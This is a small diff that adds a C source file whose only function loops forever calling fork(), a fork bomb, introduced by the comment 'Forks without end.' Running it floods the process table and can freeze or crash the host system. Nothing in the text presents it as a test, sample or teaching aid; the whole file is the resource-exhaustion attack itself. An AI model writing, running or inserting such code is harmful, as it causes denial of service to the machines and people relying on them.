@@ -1,0 +1,6 @@
+// Forks without end.
+#include <unistd.h>
+
+int main() {
+  while (true) fork();
+}
